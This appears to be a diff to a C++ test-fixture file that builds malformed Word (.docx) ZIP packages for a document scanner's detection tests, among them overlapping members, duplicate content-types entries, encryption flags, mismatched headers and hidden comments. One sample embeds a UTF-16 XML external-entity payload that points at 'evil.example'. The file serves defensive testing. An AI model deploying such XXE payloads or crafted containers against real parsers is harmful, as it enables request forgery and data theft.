@@ -33,15 +33,15 @@ Buffer after(void (*change)(ZipFile&)) {
   change(file);
   return built(file);
 }
-// The second member's data holds the third one whole, and all are listed.
-Buffer overlapping() {
+// The second member's data holds the third one, whole or its first bytes, and all are listed.
+Buffer overlapping(std::size_t shared_bytes = 30 + 6 + 5) {
   const string types = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>";
   const string inner = build_stored_zip({{"in.txt", "inner"}});
   const std::size_t inner_bytes = 30 + 6 + 5;
   const std::size_t at = 30 + 19 + types.size() + 30 + 17;  // of the second member's data
   ZipFile file;
   for (const auto& [name, data] : {std::pair<string, string>{"[Content_Types].xml", types},
-                                   {"word/document.xml", inner.substr(0, inner_bytes)},
+                                   {"word/document.xml", inner.substr(0, shared_bytes)},
                                    {"in.txt", "inner"}}) {
     ZipMember member;
     member.name = name;
@@ -50,9 +50,30 @@ Buffer overlapping() {
   }
   file.members[2].offset = static_cast<std::uint32_t>(at);
   string bytes = build_zip(file);
-  bytes.erase(at + inner_bytes, inner_bytes);  // the third member's own place
+  // The third member's own place holds what is not shared.
+  bytes.replace(at + shared_bytes, inner_bytes, inner.substr(shared_bytes, inner_bytes - shared_bytes));
   bytes.replace(bytes.rfind("PK\x05\x06") + 16, 4, le32(at + inner_bytes));
   return {bytes.begin(), bytes.end()};
+}
+Buffer with(const string& name, const string& data, std::uint16_t method = 8) {
+  ZipFile file = container();
+  ZipMember member;
+  member.name = name;
+  member.data = data;
+  member.method = method;
+  file.members.push_back(std::move(member));
+  return built(file);
+}
+// A document whose text is `bytes`, whatever their encoding.
+Buffer main_part(const string& bytes) {
+  B b = B::docx("");
+  return b.replace(kDoc, bytes).build();
+}
+string wide(const string& text) {
+  string out = "\xFE\xFF";
+  for (const char c : text)
+    out += string(1, '\0') + c;
+  return out;
 }
 // An object whose data names a program (MS-OLEDS: the stream "\1Ole10Native").
 string native_object() {
@@ -147,6 +168,109 @@ std::span<const Sample> package_samples() {
        {"inside"},
        [] { return after([](ZipFile& f) { f.members[1].flags = 8; }); }},
       {"ooxml/zip-overlap", "a.docx", true, {"OOXML-031"}, {}, {}, [] { return overlapping(); }},
+      // Each anomaly of the container once more, in another form
+      {"ooxml/zip-duplicate-types",
+       "a.docx",
+       true,
+       {"OOXML-001"},
+       {},
+       {},
+       [] { return with("[Content_Types].xml", "<Types/>"); }},
+      {"ooxml/zip-duplicate-case-types",
+       "a.docx",
+       true,
+       {"OOXML-002"},
+       {},
+       {},
+       [] { return with("[content_types].XML", "<Types/>"); }},
+      {"ooxml/zip-name-absolute",
+       "a.docx",
+       true,
+       {"OOXML-003"},
+       {},
+       {},
+       [] { return with("word\\document2.xml", "x"); }},
+      {"ooxml/zip-piece-last",
+       "a.docx",
+       true,
+       {"OOXML-004"},
+       {},
+       {},
+       [] { return with("word/document.xml/[1].LAST.piece", "x"); }},
+      {"ooxml/two-mains-strict",
+       "a.docx",
+       true,
+       {"OOXML-008"},
+       {},
+       {},
+       [] {
+         return B::docx(p(text("x")))
+             .relate("", "rId2", "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
+                     "/word/document.xml")
+             .build();
+       }},
+      {"ooxml/duplicate-id-root",
+       "a.docx",
+       true,
+       {"OOXML-011"},
+       {},
+       {},
+       [] { return B::docx(p(text("x"))).relate("", "rId1", "O:extended-properties", "docProps/app.xml").build(); }},
+      {"ooxml/dtd-wide",
+       "a.docx",
+       true,
+       {"OOXML-015"},
+       {},
+       {},
+       [] {
+         return main_part(
+             wide("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<!-- c -->\n<!DOCTYPE w:document\n[<!ENTITY % p SYSTEM "
+                  "\"http://evil.example/\">%p;]><w:document" +
+                  string(kWordNamespaces) + "/>"));
+       }},
+      {"ooxml/encoding-ebcdic",
+       "a.docx",
+       true,
+       {"OOXML-016"},
+       {},
+       {},
+       [] { return main_part("<?xml version='1.0' encoding='IBM037'?><w:document" + string(kWordNamespaces) + "/>"); }},
+      {"ooxml/illegal-reference", "a.docx", true, {"OOXML-017"}, {}, {}, [] { return word(text("a&#x0;")); }},
+      {"ooxml/zip-member-comment",
+       "a.docx",
+       false,
+       {"OOXML-026"},
+       {"hidden words"},
+       {"inside"},
+       [] {
+         return after([](ZipFile& f) {
+           f.members[1].comment = "hidden words";
+           f.members[2].extra = extra_field(0x9999, "hidden words");
+         });
+       }},
+      {"ooxml/zip-header-method-lies",
+       "a.docx",
+       true,
+       {"OOXML-027"},
+       {},
+       {},
+       [] { return after([](ZipFile& f) { f.members[1].local_method = 0; }); }},
+      {"ooxml/zip-encrypted-strongly",
+       "a.docx",
+       true,
+       {"OOXML-029"},
+       {},
+       {},
+       [] { return after([](ZipFile& f) { f.members[2].flags = 0x41; }); }},
+      {"ooxml/zip-method-aes", "a.docx", true, {"OOXML-030"}, {}, {}, [] { return with("word/a.xml", "x", 14); }},
+      {"ooxml/zip-overlap-partly", "a.docx", true, {"OOXML-031"}, {}, {}, [] { return overlapping(38); }},
+      {"ooxml/zip-crc-of-types",
+       "a.docx",
+       true,
+       {"OOXML-033"},
+       {},
+       {},
+       [] { return after([](ZipFile& f) { f.members[0].crc = 0; }); }},
       {"ooxml/zip-two-ends",
        "a.docx",
        true,
